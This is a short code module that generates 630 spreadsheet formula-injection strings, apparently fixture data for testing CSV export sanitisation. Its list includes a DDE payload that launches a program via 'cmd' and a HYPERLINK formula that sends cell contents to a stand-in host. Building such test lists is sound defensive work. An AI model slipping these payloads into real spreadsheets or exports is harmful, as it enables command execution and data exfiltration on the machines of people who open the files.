const STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const BEFORE = ['', ' ', '\u00a0', '\u200b', '\ufeff', "'", "''", '\n', '"'];
const COMMANDS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.invalid?"&A1,"a")',
  'SUM(A1:A9)',
  '',
  ',;"\t=1',
  'IMPORTXML(1)',
];
/** 630 texts that somebody hopes a spreadsheet will carry out. */
export const PAYLOADS = STARTS.flatMap((start) =>
  BEFORE.flatMap((before) => COMMANDS.map((command) => before + start + command)),
);
